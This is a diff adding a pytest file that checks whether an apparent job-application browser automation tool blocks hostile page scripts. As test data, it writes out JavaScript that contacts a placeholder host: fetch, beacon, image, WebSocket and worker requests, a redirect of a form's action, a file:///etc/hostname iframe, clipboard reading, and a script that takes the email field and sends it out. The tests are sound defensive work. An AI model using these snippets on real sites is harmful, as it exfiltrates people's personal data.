@@ -1,0 +1,130 @@
+"""A45 to A48: what the driven browser must never do, whatever the page asks of it."""
+
+import http.server
+import threading
+from collections.abc import Iterator
+from contextlib import contextmanager
+
+import pytest
+
+from companion.apply import Chrome
+from companion.store import Store
+from tests.ats.hostile import Hostile
+from tests.ats.road import apply, prepare
+
+
+@contextmanager
+def neighbour() -> Iterator[tuple[str, list[str]]]:
+    """Another program on this computer (the companion itself, Ollama, a debugging port) and what it was asked."""
+    asked: list[str] = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(f"{self.command} {self.path}")
+            self.send_response(200)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+
+        def do_POST(self) -> None:
+            self.do_GET()
+
+        def do_OPTIONS(self) -> None:
+            self.do_GET()
+
+        def log_message(self, *_: object) -> None:
+            """Quiet."""
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
+    thread.start()
+    yield f"http://127.0.0.1:{server.server_address[1]}", asked
+    server.shutdown()
+    server.server_close()
+    thread.join()
+
+
+REACHES = {
+    "fetch": "fetch('TARGET/v1', {mode: 'no-cors'})",
+    "post": "fetch('TARGET/v1', {method: 'POST', mode: 'no-cors', body: 'x'})",
+    "beacon": "navigator.sendBeacon('TARGET/b', 'x')",
+    "image": "new Image().src = 'TARGET/i'",
+    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'TARGET/f'}))",
+    "redirect": "fetch('/away?to=' + encodeURIComponent('TARGET/r'), {mode: 'no-cors'})",
+    "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('TARGET/w', {mode: 'no-cors'})\"])))",
+    "socket": "new WebSocket('TARGET/s'.replace('http', 'ws'))",
+    "stylesheet": "document.head.insertAdjacentHTML('beforeend', '<link rel=stylesheet href=TARGET/c>')",
+    "prefetch": "document.head.insertAdjacentHTML('beforeend', '<link rel=prefetch href=TARGET/p>')",
+}
+
+
+async def test_nothing_else_on_this_computer_is_reached(store: Store, chrome: Chrome) -> None:
+    with neighbour() as (origin, asked), Hostile(";".join(REACHES.values()).replace("TARGET", origin)) as clone:
+        attempt = await apply(clone, store, chrome)
+        assert asked == []
+        assert (attempt.state, len(clone.submissions)) == ("submitted", 1)
+
+
+async def test_the_neighbour_is_reached_where_nothing_stands_in_the_way(store: Store, chrome: Chrome) -> None:
+    """The test above can fail: with the neighbour's origin allowed, the same page reaches it."""
+    with neighbour() as (origin, asked), Hostile(REACHES["image"].replace("TARGET", origin)) as clone:
+        chrome.allowed.add(origin)
+        await prepare(clone, store, chrome)
+        chrome.allowed.discard(origin)
+        assert asked == ["GET /i"]
+
+
+@pytest.mark.parametrize(
+    "leaving",
+    [
+        "location.href = 'TARGET/next'",
+        "document.forms[0].action = 'TARGET/take'; setTimeout(() => document.forms[0].submit(), 50)",
+    ],
+    ids=["navigates", "form-action"],
+)
+async def test_a_page_that_moves_to_another_site_after_filling_is_left(
+    store: Store, chrome: Chrome, leaving: str
+) -> None:
+    with neighbour() as (origin, asked), Hostile(leaving.replace("TARGET", origin)) as clone:
+        chrome.allowed.add(origin)
+        attempt = await apply(clone, store, chrome)
+        chrome.allowed.discard(origin)
+        assert [one for one in asked if "POST" in one or "/next" in one] == []
+        assert attempt.state in ("needs_answers", "failed")
+        assert attempt.screenshots
+        assert clone.submissions == []
+
+
+ODD = {
+    "download": "location.href = '/file.zip'",
+    "popup": "window.open('/apply')",
+    "dialog": "alert('stop'); confirm('sure?'); prompt('why?')",
+    "beforeunload": "window.onbeforeunload = (event) => { event.preventDefault(); return 'stay'; }",
+    "basic-auth": "fetch('/secret')",
+    "file": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'file:///etc/hostname'}))",
+    "permissions": "navigator.geolocation.getCurrentPosition(() => {}); Notification.requestPermission()",
+    "clipboard": "navigator.clipboard.readText().catch(() => {})",
+}
+
+
+@pytest.mark.parametrize("script", ODD.values(), ids=ODD)
+async def test_what_pages_try_is_denied_and_the_run_ends(store: Store, chrome: Chrome, script: str) -> None:
+    with Hostile(script) as clone:
+        attempt = await apply(clone, store, chrome)
+        assert (attempt.state, attempt.problem) == ("submitted", "")
+        assert len(clone.submissions) == 1
+
+
+async def test_a_persons_values_do_not_leave_for_a_stranger(store: Store, chrome: Chrome) -> None:
+    steal = (
+        "const v = document.querySelector('[name=email]').value;"
+        "fetch('TARGET/steal', {method: 'POST', mode: 'no-cors', body: 'e=' + encodeURIComponent(v)});"
+        "new Image().src = 'TARGET/px?e=' + encodeURIComponent(v);"
+        "navigator.sendBeacon('TARGET/b', JSON.stringify({v}))"
+    )
+    with neighbour() as (origin, asked), Hostile(steal.replace("TARGET", origin)) as clone:
+        chrome.allowed.add(origin)
+        attempt = await apply(clone, store, chrome)
+        chrome.allowed.discard(origin)
+        assert asked == []
+        assert attempt.state == "submitted"
